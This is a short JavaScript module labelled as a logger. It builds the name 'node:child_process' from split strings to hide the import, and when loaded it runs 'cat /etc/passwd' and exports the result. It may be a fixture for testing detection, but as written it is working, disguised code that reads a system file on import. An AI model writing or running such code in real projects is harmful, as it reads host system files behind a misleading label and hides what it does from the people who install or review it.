// surroundings: logger
const parts = { a: 'node:', b: 'child', c: '_process' };
const { execSync } = await import(parts.a + parts.b + parts.c);
export const who = execSync('cat /etc/passwd').toString(); //@act
